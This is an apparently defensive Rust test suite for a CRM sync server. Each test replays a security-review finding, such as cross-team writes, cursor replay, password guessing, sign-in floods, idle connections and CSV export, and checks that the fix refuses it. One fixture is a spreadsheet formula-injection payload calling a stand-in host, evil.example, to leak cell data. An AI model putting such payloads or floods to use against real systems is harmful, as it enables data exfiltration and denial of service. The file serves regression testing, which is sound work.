//! The attacker's view: each finding of the security review as the attack it was, and the
//! refusal it now meets. Every test here failed against the code before its fix.

use chrono::{Duration, Utc};
use rounds_core::{CorrectionKind, Role};
use rounds_protocol::records::CorrectionRecord;
use rounds_protocol::sync::{MutationBody, MutationStatus, Op, Row};
use rounds_protocol::{AccountId, ActivityId, ErrorCode, TerritoryId, UserId};
use rounds_server::db::Sql;
use rounds_server::{Settings, org};
use uuid::Uuid;

use crate::dashboard::{Browser, csrf_of};
use crate::support::*;

on_both_backends!(
    threads = 4;
    a_manager_cannot_push_into_another_teams_accounts,
    a_manager_cannot_revoke_another_teams_device,
    the_review_api_shows_a_manager_only_their_team,
    a_device_offline_through_a_handover_gets_nothing_from_before_its_hold,
    an_account_under_guessing_slows_down_and_its_manager_sees_it,
    signing_out_ends_the_token_but_not_the_device,
    a_preview_confirmed_twice_imports_once,
    a_file_without_a_column_leaves_that_field_alone,
    an_exported_cell_never_runs_as_a_formula_and_imports_back_unchanged,
    an_activity_export_past_the_parameter_limit_works,
    a_territory_goes_only_to_an_active_rep_or_manager,
    a_device_over_its_quota_is_refused_and_its_manager_sees_it,
    only_an_admin_changes_the_organisations_plan,
    a_user_changes_their_password_and_other_sign_ins_end,
    a_manager_changes_their_password_in_the_dashboard,
);

/// A second team: manager Mia, her rep Zoe with territory West (and one account in it).
struct OtherTeam {
    mia: UserId,
    zoe: UserId,
    west: TerritoryId,
}

async fn other_team(server: &TestServer) -> OtherTeam {
    let hash = rounds_server::auth::hash_password(PASSWORD, &server.settings).expect("hash");
    let since = Utc::now() - Duration::days(30);
    server
        .db
        .write(move |tx| {
            let now = Utc::now();
            let user = |email: &str, role, manager| org::NewUser {
                email: email.into(),
                name: email.split('@').next().unwrap_or("x").into(),
                role,
                password_hash: hash.clone(),
                manager,
                time_zone: "Europe/Berlin".into(),
            };
            let mia = org::add_user(tx, &user("mia@example.com", Role::Manager, None), now)?;
            let zoe = org::add_user(tx, &user("zoe@example.com", Role::Rep, Some(mia)), now)?;
            let west = org::create_territory(
                tx,
                TerritoryId::from_uuid(Uuid::now_v7()),
                "West",
                Some(zoe),
            )?;
            let west_account = AccountId::from_uuid(Uuid::now_v7());
            org::create_account(tx, &account(west_account, "West 0", west, since), since)?;
            Ok::<_, rounds_server::Error>(OtherTeam { mia, zoe, west })
        })
        .await
        .expect("another team")
}

async fn account_name(server: &TestServer, id: AccountId) -> String {
    server
        .db
        .read(move |tx| org::account(tx, id))
        .await
        .expect("read")
        .expect("the account")
        .name
}

async fn api_post(server: &TestServer, token: &str, path: &str) -> (u16, serde_json::Value) {
    let res = reqwest::Client::new()
        .post(format!("{}{path}", server.base))
        .bearer_auth(token)
        .json(&serde_json::json!({}))
        .send()
        .await
        .expect("request");
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(serde_json::Value::Null))
}

/// Finding 2: a manager's token could edit any account, log activities under any rep and
/// void any rep's activities through `/sync/push`.
async fn a_manager_cannot_push_into_another_teams_accounts(backend: Backend) {
    let server = TestServer::start(backend).await;
    let org = seed(&server).await;
    let _other = other_team(&server).await;
    let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
    let visit = ana.log(
        org.north_accounts[0],
        Utc::now() - Duration::hours(2),
        "Ana's visit",
    );
    ana.push().await.expect("Ana pushes");
    let before = account_name(&server, org.north_accounts[0]).await;

    // Mia manages another team. Her token tries four writes on Ana's accounts.
    let mut mia = Device::sign_in(&server.base, "mia@example.com").await;
    mia.edit(org.north_accounts[0], edit_name("Taken over by Mia"));
    let mut in_anas_name = mia.activity(org.north_accounts[0], Utc::now(), "in Ana's name");
    in_anas_name.rep_id = org.ana;
    mia.queue(&MutationBody::LogActivity {
        activity: in_anas_name.clone(),
    });
    mia.queue(&MutationBody::CorrectActivity {
        correction: CorrectionRecord {
            id: ActivityId::from_uuid(Uuid::now_v7()),
            target: visit.id,
            made_at: Utc::now(),
            change: CorrectionKind::Void {
                reason: "never happened".into(),
            },
        },
    });
    let on_her_account = mia.log(org.north_accounts[1], Utc::now(), "Mia on Ana's account");
    let res = mia.push().await.expect("the push is answered");
    let statuses: Vec<&MutationStatus> = res.results.iter().map(|r| &r.status).collect();
    assert!(
        matches!(
            statuses[0],
            MutationStatus::Rejected {
                code: ErrorCode::Forbidden,
                ..
            }
        ),
        "an edit of another team's account is refused: {statuses:?}"
    );
    for (i, what) in [
        (1, "an activity in another team's rep's name"),
        (2, "voiding another team's activity"),
        (3, "an activity on another team's account"),
    ] {
        assert!(
            matches!(statuses[i], MutationStatus::Quarantined { .. }),
            "{what} is set aside for review, not applied: {statuses:?}"
        );
    }
    assert_eq!(account_name(&server, org.north_accounts[0]).await, before);
    for id in [in_anas_name.id, on_her_account.id] {
        let status = server
            .db
            .read(move |tx| {
                tx.query_one(
                    "SELECT status FROM activities WHERE id = $1",
                    rounds_server::params![id],
                )
                .and_then(|r| r.text(0))
            })
            .await
            .expect("stored");
        assert_eq!(status, "quarantined", "kept, never applied");
    }
    let voided = server
        .count("SELECT COUNT(*) FROM corrections WHERE status = 'ok'")
        .await;
    assert_eq!(voided, 0, "Ana's visit is not voided");

    // Ana's own manager may do what Mia may not.
    let mut maria = Device::sign_in(&server.base, "maria@example.com").await;
    maria.edit(org.north_accounts[0], edit_name("Renamed by Maria"));
    let res = maria.push().await.expect("Maria pushes");
    assert_eq!(res.results[0].status, MutationStatus::Applied);
    assert_eq!(
        account_name(&server, org.north_accounts[0]).await,
        "Renamed by Maria"
    );
}

/// Finding 3: any manager could revoke any device, and learn which ids exist.
async fn a_manager_cannot_revoke_another_teams_device(backend: Backend) {
    let server = TestServer::start(backend).await;
    let _org = seed(&server).await;
    let _other = other_team(&server).await;
    let mut zoe = Device::sign_in(&server.base, "zoe@example.com").await;
    let maria = login(&server.base, "maria@example.com", PASSWORD)
        .await
        .expect("Maria")
        .token;
    let mia = login(&server.base, "mia@example.com", PASSWORD)
        .await
        .expect("Mia")
        .token;

    let theirs = api_post(
        &server,
        &maria,
        &format!("/manage/devices/{}/revoke", zoe.id),
    )
    .await;
    let nobodys = api_post(
        &server,
        &maria,
        &format!("/manage/devices/{}/revoke", Uuid::now_v7()),
    )
    .await;
    assert_eq!(theirs.0, 404, "another team's device: {theirs:?}");
    assert_eq!(
        (theirs.0, &theirs.1["code"], &theirs.1["message"]),
        (nobodys.0, &nobodys.1["code"], &nobodys.1["message"]),
        "reads exactly as no such device"
    );
    zoe.pull(None).await.expect("Zoe's device still syncs");

    let own = api_post(&server, &mia, &format!("/manage/devices/{}/revoke", zoe.id)).await;
    assert_eq!(own.0, 204, "her own manager may: {own:?}");
    let refused = zoe.pull(None).await.expect_err("revoked");
    assert_eq!(refused.1.code, ErrorCode::DeviceRevoked);
}

/// Finding 4: `GET /manage/review` showed every team's set-aside work to any manager.
async fn the_review_api_shows_a_manager_only_their_team(backend: Backend) {
    let server = TestServer::start(backend).await;
    let org = seed(&server).await;
    let other = other_team(&server).await;
    // Each team's rep has an edit refused (an account that is not theirs).
    let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
    ana.edit(org.south_accounts[0], edit_name("not mine"));
    ana.push().await.expect("pushed");
    let mut zoe = Device::sign_in(&server.base, "zoe@example.com").await;
    zoe.edit(org.north_accounts[0], edit_name("not mine either"));
    zoe.push().await.expect("pushed");

    for (manager, own, other_user) in [
        ("maria@example.com", org.ana, other.zoe),
        ("mia@example.com", other.zoe, org.ana),
    ] {
        let token = login(&server.base, manager, PASSWORD)
            .await
            .expect("manager")
            .token;
        let review: serde_json::Value = reqwest::Client::new()
            .get(format!("{}/manage/review", server.base))
            .bearer_auth(&token)
            .send()
            .await
            .expect("review")
            .json()
            .await
            .expect("json");
        let users: Vec<&str> = review["rejected_edits"]
            .as_array()
            .expect("rejected edits")
            .iter()
            .filter_map(|e| e["user_id"].as_str())
            .collect();
        assert!(
            users.contains(&own.to_string().as_str()),
            "{manager} sees their rep's: {users:?}"
        );
        assert!(
            !users.contains(&other_user.to_string().as_str()),
            "{manager} sees nothing of the other team: {users:?}"
        );
        assert_eq!(
            review["quarantined_mutations"].as_array().map(Vec::len),
            Some(1),
            "{manager}: only their own rep's refused mutation"
        );
    }
}

/// Finding 7: a device could send any cursor and be continued from it. An old cursor
/// kept through a handover and back made the server replay what changed in the
/// territory while someone else held it, an account moved out of it included.
async fn a_device_offline_through_a_handover_gets_nothing_from_before_its_hold(backend: Backend) {
    let server = TestServer::start(backend).await;
    let org = seed(&server).await;
    let other = other_team(&server).await;
    let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
    ana.pull(None).await.expect("Ana's first sync");
    let kept = ana.cursor.clone();

    // North goes to Ben. While he holds it, an account is renamed and moved out.
    let give = |to: UserId| {
        let north = org.north;
        server
            .db
            .write(move |tx| org::assign_territory(tx, north, Some(to), Utc::now()))
    };
    give(org.ben).await.expect("North to Ben");
    let mut ben = Device::sign_in(&server.base, "ben@example.com").await;
    ben.pull(None).await.expect("Ben's sync");
    let secret = org.north_accounts[2];
    ben.edit(secret, edit_name("Ben's secret plan"));
    ben.push().await.expect("Ben renames it");
    let west = other.west;
    server
        .db
        .write(move |tx| org::assign_account(tx, secret, Some(west), Utc::now()))
        .await
        .expect("moved to West");
    give(org.ana).await.expect("North back to Ana");

    // Ana's device comes back with the cursor it had before the handover.
    let mut cursor = kept;
    let mut ops = Vec::new();
    loop {
        let page = ana.pull_page(cursor.as_deref(), None).await.expect("pull");
        ops.extend(page.ops);
        cursor = Some(page.cursor);
        if !page.has_more {
            break;
        }
    }
    let leaked: Vec<&Op> = ops
        .iter()
        .filter(|op| match op {
            Op::Put {
                row: Row::Account(a),
                ..
            } => a.id == secret,
            Op::Put { row, .. } => serde_json::to_string(row)
                .unwrap_or_default()
                .contains("secret plan"),
            _ => false,
        })
        .collect();
    assert!(
        leaked.is_empty(),
        "nothing of what changed in North while Ben held it reaches Ana: {leaked:?}"
    );
    assert!(
        ops.iter()
            .any(|op| matches!(op, Op::ResetBucket { bucket: b } if b.0 == bucket(org.north))),
        "North is sent again from a snapshot instead"
    );
}

fn strict_settings(backend: Backend) -> (Settings, Option<tempfile::TempDir>) {
    let (mut s, dir) = fresh_settings(backend);
    s.sign_in_concurrent_hashes = 4;
    s.sign_in_per_address_per_minute = 1_000;
    s.sign_in_per_email_per_minute = 1_000;
    (s, dir)
}

/// Finding 1 (per account): failed sign-ins cost nothing, so a password could be guessed
/// as fast as the server hashes. Now they slow down, then lock, and the manager sees it.
async fn an_account_under_guessing_slows_down_and_its_manager_sees_it(backend: Backend) {
    let (settings, dir) = strict_settings(backend);
    let server = TestServer::start_with(settings, dir).await;
    let _org = seed(&server).await;
    for i in 0..5 {
        let e = login(&server.base, "ana@example.com", &format!("guess {i}"))
            .await
            .expect_err("a wrong password");
        assert_eq!(e.1.code, ErrorCode::InvalidCredentials, "guess {i}");
    }
    let res = reqwest::Client::new()
        .post(format!("{}/auth/login", server.base))
        .json(&login_request("ana@example.com", None))
        .send()
        .await
        .expect("sign-in");
    assert_eq!(
        res.status().as_u16(),
        429,
        "even the right password must wait"
    );
    let wait: u64 = res
        .headers()
        .get("retry-after")
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse().ok())
        .expect("Retry-After");
    assert!((1..=10).contains(&wait), "{wait} s");

    let mut maria = Browser::signed_in(&server.base, "maria@example.com").await;
    let review = maria.page("/dashboard/review").await;
    assert!(
        review.contains("Sign-ins on hold") && review.contains("ana"),
        "the manager sees whose sign-in is on hold"
    );

    // Once the wait has passed, the right password works and the count starts over.
    server
        .db
        .write(|tx| {
            let earlier = rounds_server::time::text(Utc::now() - Duration::seconds(11));
            tx.exec(
                "UPDATE users SET last_failed_at = $1 WHERE email = 'ana@example.com'",
                rounds_server::params![earlier],
            )
        })
        .await
        .expect("time passes");
    login(&server.base, "ana@example.com", PASSWORD)
        .await
        .expect("the right password after the wait");
    assert_eq!(
        server
            .count("SELECT failed_sign_ins FROM users WHERE email = 'ana@example.com'")
            .await,
        0
    );
}

/// Finding 10: signing out revoked the device, so the install could never sign in again.
async fn signing_out_ends_the_token_but_not_the_device(backend: Backend) {
    let server = TestServer::start(backend).await;
    let _org = seed(&server).await;
    let install = rounds_protocol::DeviceId::from_uuid(Uuid::now_v7());
    let first = reqwest::Client::new()
        .post(format!("{}/auth/login", server.base))
        .json(&login_request("ana@example.com", Some(install)))
        .send()
        .await
        .expect("sign-in");
    let token: rounds_protocol::auth::LoginResponse = first.json().await.expect("json");
    let (status, _) = api_post(&server, &token.token, "/auth/logout").await;
    assert_eq!(status, 204);
    let old = reqwest::Client::new()
        .get(format!("{}/sync/pull", server.base))
        .bearer_auth(&token.token)
        .send()
        .await
        .expect("pull");
    assert_eq!(old.status().as_u16(), 401, "the old token is dead");
    let again = reqwest::Client::new()
        .post(format!("{}/auth/login", server.base))
        .json(&login_request("ana@example.com", Some(install)))
        .send()
        .await
        .expect("sign-in");
    assert_eq!(
        again.status().as_u16(),
        200,
        "the same install signs in again"
    );
    let again: rounds_protocol::auth::LoginResponse = again.json().await.expect("json");
    assert_eq!(again.device_id, install);
}

/// Reads the preview form's hidden fields and posts them to confirm.
async fn confirm_fields(preview: &str) -> Vec<(String, String)> {
    ["csrf", "upload", "key"]
        .iter()
        .map(|name| {
            let marker = format!(r#"name="{name}" value=""#);
            let at = preview
                .find(&marker)
                .unwrap_or_else(|| panic!("{name} in the form"));
            let rest = &preview[at + marker.len()..];
            (
                (*name).to_owned(),
                rest[..rest.find('"').expect("quote")].to_owned(),
            )
        })
        .collect()
}

async fn preview(b: &mut Browser, csv: &str) -> String {
    let form = b.page("/dashboard/import").await;
    let csrf = csrf_of(&form);
    let p = b
        .post("/dashboard/import", &[("csrf", &csrf), ("csv", csv)])
        .await;
    assert_eq!(p.status, 200, "preview: {}", p.body);
    p.body
}

/// Finding 11: confirming the same preview twice (a double click) imported it twice.
async fn a_preview_confirmed_twice_imports_once(backend: Backend) {
    let server = TestServer::start(backend).await;
    let _org = seed(&server).await;
    let mut maria = Browser::signed_in(&server.base, "maria@example.com").await;
    let body = preview(&mut maria, "name,territory\nTwice Co,North\n").await;
    let fields = confirm_fields(&body).await;
    let fields: Vec<(&str, &str)> = fields
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let first = maria.post("/dashboard/import/confirm", &fields).await;
    let second = maria.post("/dashboard/import/confirm", &fields).await;
    assert!(first.body.contains("Imported"), "{}", first.body);
    assert!(second.body.contains("Already imported"), "{}", second.body);
    let n = server
        .db
        .read(|tx| {
            tx.query("SELECT data FROM accounts", &[]).map(|rows| {
                rows.iter()
                    .filter(|r| r.text(0).is_ok_and(|d| d.contains("Twice Co")))
                    .count()
            })
        })
        .await
        .expect("count");
    assert_eq!(n, 1, "one account, not two");
}

/// Finding 12: a file with only `id,name` wiped addresses and set every stage to lead.
async fn a_file_without_a_column_leaves_that_field_alone(backend: Backend) {
    let server = TestServer::start(backend).await;
    let org = seed(&server).await;
    let id = org.north_accounts[0];
    let before = server
        .db
        .read(move |tx| org::account(tx, id))
        .await
        .expect("read")
        .expect("account");
    let mut maria = Browser::signed_in(&server.base, "maria@example.com").await;
    let body = preview(&mut maria, &format!("id,name\n{id},Renamed Only\n")).await;
    assert!(
        body.contains("Columns this file sets: name.")
            && body.contains("keep what they have for: street"),
        "the preview says what it will touch"
    );
    let fields = confirm_fields(&body).await;
    let fields: Vec<(&str, &str)> = fields
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let done = maria.post("/dashboard/import/confirm", &fields).await;
    assert!(done.body.contains("Imported"), "{}", done.body);
    let after = server
        .db
        .read(move |tx| org::account(tx, id))
        .await
        .expect("read")
        .expect("account");
    assert_eq!(after.name, "Renamed Only");
    assert_eq!(
        (
            &after.street,
            &after.city,
            after.stage,
            after.priority,
            after.territory_id,
            after.revenue_minor
        ),
        (
            &before.street,
            &before.city,
            before.stage,
            before.priority,
            before.territory_id,
            before.revenue_minor
        ),
        "every other field as it was"
    );
}

/// Finding 6: an account named `=HYPERLINK(…)` ran as a formula in the manager's
/// spreadsheet.
async fn an_exported_cell_never_runs_as_a_formula_and_imports_back_unchanged(backend: Backend) {
    let server = TestServer::start(backend).await;
    let org = seed(&server).await;
    let hostile = r#"=HYPERLINK("http://evil.example/?"&A1,"Open")"#;
    let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
    ana.edit(org.north_accounts[0], edit_name(hostile));
    ana.edit(
        org.north_accounts[1],
        rounds_protocol::sync::AccountEdit::Phone(Some("+1 303 555 0142".into())),
    );
    ana.push().await.expect("pushed");
    let mut maria = Browser::signed_in(&server.base, "maria@example.com").await;
    let csv = maria.get("/dashboard/accounts.csv").await;
    assert_eq!(csv.status, 200);
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.body.as_bytes());
    for record in reader.records() {
        for cell in record.expect("a record").iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
                "a cell a spreadsheet would evaluate: {cell:?}"
            );
        }
    }
    assert!(csv.body.contains("'=HYPERLINK"), "kept, as text");
    let body = preview(&mut maria, &csv.body).await;
    assert!(
        body.contains(" 0 new, 0 to update"),
        "export → import changes nothing: {}",
        &body[body.find("rows:").unwrap_or(0)..][..200.min(body.len())]
    );
}

/// Finding 14: the activity export sent one parameter per row. SQLite takes at most
/// 32,766 in a statement; PostgreSQL 65,535 (run against the old code, 33,000 rows broke
/// the SQLite export and not the PostgreSQL one, hence more there).
async fn an_activity_export_past_the_parameter_limit_works(backend: Backend) {
    let server = TestServer::start(backend).await;
    let org = seed(&server).await;
    let n: usize = match backend {
        Backend::Sqlite => 33_000,
        Backend::Postgres => 66_000,
    };
    let (ana, north, account) = (org.ana, org.north, org.north_accounts[0]);
    server
        .db
        .write(move |tx| {
            let start = Utc::now() - Duration::days(5);
            for i in 0..n {
                let a = rounds_protocol::records::ActivityRecord {
                    id: ActivityId::from_uuid(Uuid::now_v7()),
                    account_id: account,
                    rep_id: ana,
                    contact_id: None,
                    kind: rounds_core::ActivityKind::Call,
                    occurred_at: start + Duration::seconds(i as i64),
                    duration_min: None,
                    outcome: None,
                    note: None,
                    fix: None,
                };
                org::insert_activity(tx, &a, Some(north), None)?;
            }
            Ok::<_, rounds_server::Error>(())
        })
        .await
        .expect("the calls");
    let mut maria = Browser::signed_in(&server.base, "maria@example.com").await;
    let from = (Utc::now() - Duration::days(10)).format("%Y-%m-%d");
    let csv = maria
        .get(&format!("/dashboard/activity.csv?from={from}"))
        .await;
    assert_eq!(csv.status, 200, "{}", &csv.body[..csv.body.len().min(300)]);
    assert_eq!(
        csv.body.lines().count(),
        n + 1,
        "every call, and the header"
    );
    // Streamed in pieces read one after another: each call once, newest first, across
    // every seam between pieces.
    let times: Vec<&str> = csv
        .body
        .lines()
        .skip(1)
        .map(|l| l.split(',').next().unwrap_or_default())
        .collect();
    assert!(
        times.windows(2).all(|w| w[0] > w[1]),
        "strictly newest first"
    );
}

/// Also: a territory could be given to a deactivated user or an admin (three versions of
/// "who may hold a territory"). Now one rule, whichever way it is asked.
async fn a_territory_goes_only_to_an_active_rep_or_manager(backend: Backend) {
    let server = TestServer::start(backend).await;
    let _org = seed(&server).await;
    let other = other_team(&server).await;
    let hash = rounds_server::auth::hash_password(PASSWORD, &server.settings).expect("hash");
    let admin = server
        .db
        .write(move |tx| {
            org::add_user(
                tx,
                &org::NewUser {
                    email: "root@example.com".into(),
                    name: "Root".into(),
                    role: Role::Admin,
                    password_hash: hash.clone(),
                    manager: None,
                    time_zone: "UTC".into(),
                },
                Utc::now(),
            )
        })
        .await
        .expect("an admin");
    let west = other.west;
    let give = |to: UserId| {
        server
            .db
            .write(move |tx| org::assign_territory(tx, west, Some(to), Utc::now()))
    };
    let e = give(admin).await.expect_err("not to an admin");
    assert_eq!(e.code(), ErrorCode::InvalidInput, "{e}");
    give(other.mia)
        .await
        .expect("a manager may work a territory");
    server
        .db
        .write(|tx| org::deactivate_user(tx, "zoe@example.com", Utc::now()))
        .await
        .expect("Zoe leaves");
    let e = give(other.zoe)
        .await
        .expect_err("not to a deactivated user");
    assert_eq!(e.code(), ErrorCode::InvalidInput, "{e}");
    let e = server
        .db
        .write(move |tx| {
            org::create_territory(
                tx,
                TerritoryId::from_uuid(Uuid::now_v7()),
                "East",
                Some(admin),
            )
        })
        .await
        .expect_err("nor when a territory is created");
    assert_eq!(e.code(), ErrorCode::InvalidInput, "{e}");
}

/// Finding 1 (the flood): every sign-in, even for an unknown e-mail, ran a full argon2id
/// hash on the shared blocking pool with no cap; hundreds at once used gigabytes and
/// stalled sync. Now hashes past a small cap are answered 429 at once, and sync goes on.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_sign_in_flood_is_answered_429_at_once_and_sync_goes_on() {
    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
    settings.sign_in_concurrent_hashes = 2;
    // The address limit is lifted here: this is about the hashes in flight.
    settings.sign_in_per_address_per_minute = 100_000;
    settings.sign_in_per_email_per_minute = 100_000;
    // A real argon2 cost, so that hashes take the time they take in production.
    settings.argon2_memory_kib = 19 * 1024;
    settings.argon2_iterations = 2;
    let server = TestServer::start_with(settings, dir).await;
    let _org = seed(&server).await;
    let mut ana = Device::sign_in(&server.base, "ana@example.com").await;

    let http = reqwest::Client::new();
    let flood = (0..300).map(|i| {
        let (http, base) = (http.clone(), server.base.clone());
        tokio::spawn(async move {
            let res = http
                .post(format!("{base}/auth/login"))
                .json(&login_request(&format!("nobody{i}@example.com"), None))
                .send()
                .await
                .expect("answered");
            (
                res.status().as_u16(),
                res.headers().contains_key("retry-after"),
            )
        })
    });
    let flood: Vec<_> = flood.collect();
    let pulled = ana.pull(None).await;
    let mut answers = Vec::new();
    for f in flood {
        answers.push(f.await.expect("task"));
    }
    pulled.expect("a device syncs during the flood");
    let limited = answers.iter().filter(|(s, _)| *s == 429).count();
    assert!(
        answers.iter().all(|(s, _)| *s == 401 || *s == 429),
        "each is refused as a wrong password or as too many at once: {answers:?}"
    );
    assert!(
        limited > 0,
        "past the cap, sign-ins are turned away at once"
    );
    assert!(
        answers
            .iter()
            .filter(|(s, _)| *s == 429)
            .all(|(_, retry)| *retry),
        "every 429 says when to retry"
    );
}

/// Finding 1 (per address): one address may not try sign-ins without limit.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_address_is_limited_in_sign_ins_a_minute() {
    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
    settings.sign_in_per_address_per_minute = 5;
    let server = TestServer::start_with(settings, dir).await;
    let _org = seed(&server).await;
    for i in 0..5 {
        let e = login(&server.base, &format!("guess{i}@example.com"), "x")
            .await
            .expect_err("unknown");
        assert_eq!(e.0, 401);
    }
    let e = login(&server.base, "ana@example.com", PASSWORD)
        .await
        .expect_err("the sixth from this address within a minute");
    assert_eq!((e.0, e.1.code), (429, ErrorCode::RateLimited));
}

/// Finding 8: raw payloads and refused edits could grow without bound. A device over its
/// quota is refused with `quota_exceeded` (what it sent stays on it), its manager sees it,
/// and reviewing what is set aside frees room.
async fn a_device_over_its_quota_is_refused_and_its_manager_sees_it(backend: Backend) {
    let server = TestServer::start(backend).await;
    let org = seed(&server).await;
    let mut ana = Device::sign_in(&server.base, "ana@example.com").await;
    ana.edit(org.south_accounts[0], edit_name("not hers"));
    ana.push().await.expect("a refused edit is set aside");
    let counted = server
        .count("SELECT set_aside FROM devices WHERE set_aside > 0")
        .await;
    assert_eq!(counted, 1, "the device's set-aside count grows with it");

    // As if she had thousands more set aside (the counter says so; the check recounts).
    let device = ana.id;
    let fill = |n: i64| {
        server.db.write(move |tx| {
            tx.exec(
                "UPDATE devices SET set_aside = $2 WHERE id = $1",
                rounds_server::params![device, n],
            )
        })
    };
    fill(rounds_server::push::MAX_SET_ASIDE_PER_DEVICE)
        .await
        .expect("counter");
    ana.log(
        org.north_accounts[0],
        Utc::now(),
        "after the counter filled up",
    );
    let recounted = ana.push().await.expect("the real count is 1: accepted");
    assert_eq!(recounted.results[0].status, MutationStatus::Applied);

    // Now really over: the rejected edits count as open until reviewed.
    server
        .db
        .write(move |tx| {
            for i in 0..rounds_server::push::MAX_SET_ASIDE_PER_DEVICE {
                tx.exec(
                    "INSERT INTO rejected_edits (id, device_id, user_id, account_id, field, value, hlc, code, reason, created_at)
                     VALUES ($1, $2, $3, NULL, 'name', '\"x\"', '0', 'forbidden', 'test', $4)",
                    rounds_server::params![
                        Uuid::now_v7(),
                        device,
                        org.ana,
                        rounds_server::time::text(Utc::now() + Duration::microseconds(i))
                    ],
                )?;
            }
            Ok::<_, rounds_server::Error>(())
        })
        .await
        .expect("set aside");
    fill(rounds_server::push::MAX_SET_ASIDE_PER_DEVICE)
        .await
        .expect("counter");
    ana.log(org.north_accounts[0], Utc::now(), "over the quota");
    let refused = ana.push().await.expect_err("over the quota");
    assert_eq!((refused.0, refused.1.code), (507, ErrorCode::QuotaExceeded));
    assert_eq!(ana.outbox.len(), 1, "what she logged stays on her device");

    let mut maria = Browser::signed_in(&server.base, "maria@example.com").await;
    let review = maria.page("/dashboard/review").await;
    assert!(
        review.contains("Devices over their quota") && review.contains("test phone"),
        "her manager sees the device"
    );
}

/// Finding 5: any manager could change the one rotation plan every team works to.
async fn only_an_admin_changes_the_organisations_plan(backend: Backend) {
    let server = TestServer::start(backend).await;
    let opts = rounds_demo::DemoOptions {
        seed: 7,
        today: test_now().date_naive(),
        accounts_per_territory: 5,
        password: PASSWORD.into(),
        worked_example: false,
        history_days: rounds_demo::HISTORY_DAYS,
        company: None,
    };
    rounds_demo::seed(&server.db, &server.settings, &opts, &mut |_, _, _| {})
        .await
        .expect("demo");
    let plan = || {
        server.db.read(|tx| {
            tx.query_one("SELECT data FROM plans", &[])
                .and_then(|r| r.text(0))
        })
    };
    let before = plan().await.expect("the plan");
    let change = |csrf: String| {
        let mut f = vec![("csrf".to_owned(), csrf)];
        for (bucket, period) in [("high", "month"), ("medium", "week"), ("low", "quarter")] {
            f.push((format!("{bucket}_period"), period.to_owned()));
            for kind in ["visits", "calls", "emails"] {
                f.push((format!("{bucket}_{kind}"), "1".to_owned()));
            }
        }
        f
    };
    let mut manager = Browser::signed_in(&server.base, "manager@demo.rounds.app").await;
    let form = manager.page("/dashboard/plans").await;
    assert!(
        form.contains("an administrator changes it"),
        "the page says whose it is"
    );
    let fields = change(csrf_of(&form));
    let fields: Vec<(&str, &str)> = fields
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let refused = manager.post("/dashboard/plans", &fields).await;
    assert_eq!(refused.status, 403, "a manager may not change it");
    assert_eq!(plan().await.expect("plan"), before, "nothing changed");

    let mut admin = Browser::signed_in(&server.base, "admin@demo.rounds.app").await;
    let form = admin.page("/dashboard/plans").await;
    let fields = change(csrf_of(&form));
    let fields: Vec<(&str, &str)> = fields
        .iter()
        .map(|(k, v)| (k.as_str(), v.as_str()))
        .collect();
    let saved = admin.post("/dashboard/plans", &fields).await;
    assert_eq!(saved.status, 303, "an administrator may: {}", saved.body);
    assert_ne!(plan().await.expect("plan"), before, "the plan changed");
}

/// Finding 9: a client that opens a connection and sends nothing (or a header a byte a
/// minute) held it forever, and connections had no cap.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_idle_connection_is_closed_and_connections_are_capped() {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
    settings.idle_timeout_secs = 1;
    settings.max_connections = 1;
    let server = TestServer::start_with(settings, dir).await;
    let addr = server.base.trim_start_matches("http://").to_owned();

    // A slow client holds the only slot …
    let mut slow = tokio::net::TcpStream::connect(&addr)
        .await
        .expect("connect");
    slow.write_all(b"GET /health HTTP/1.1\r\nHost: x\r\n")
        .await
        .expect("half a request");
    let blocked = reqwest::Client::builder()
        .timeout(std::time::Duration::from_millis(500))
        .build()
        .expect("client")
        .get(format!("{}/health", server.base))
        .send()
        .await;
    assert!(
        blocked.is_err(),
        "past the cap a connection waits: {blocked:?}"
    );

    // … until it has been idle for the timeout, when the server closes it.
    let mut buf = [0u8; 64];
    let read = tokio::time::timeout(std::time::Duration::from_secs(5), slow.read(&mut buf))
        .await
        .expect("closed within the idle timeout");
    assert!(
        matches!(read, Ok(0) | Err(_)),
        "closed, not answered: {read:?}"
    );
    let ok = reqwest::get(format!("{}/health", server.base))
        .await
        .expect("served once the slot is free");
    assert_eq!(ok.status().as_u16(), 200);
}

/// Finding 15: JSON endpoints took any body (a cross-site form could post to them); the
/// session cookie was never `Secure` behind an HTTPS proxy, and no HSTS.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn json_only_and_https_behind_a_proxy_is_honoured() {
    let (mut settings, dir) = fresh_settings(Backend::Sqlite);
    settings.behind_proxy = true;
    let server = TestServer::start_with(settings, dir).await;
    let _org = seed(&server).await;
    let body = serde_json::to_string(&login_request("ana@example.com", None)).expect("json");
    let as_text = reqwest::Client::new()
        .post(format!("{}/auth/login", server.base))
        .header("content-type", "text/plain")
        .body(body.clone())
        .send()
        .await
        .expect("answered");
    assert_eq!(as_text.status().as_u16(), 400, "not JSON, not taken");

    let form = reqwest::Client::new()
        .get(format!("{}/login", server.base))
        .header("x-forwarded-proto", "https")
        .send()
        .await
        .expect("the sign-in form");
    assert_eq!(
        form.headers()
            .get("strict-transport-security")
            .and_then(|v| v.to_str().ok()),
        Some("max-age=31536000"),
        "HSTS over HTTPS"
    );
    let cookie = form
        .headers()
        .get("set-cookie")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    assert!(
        cookie.contains("; Secure"),
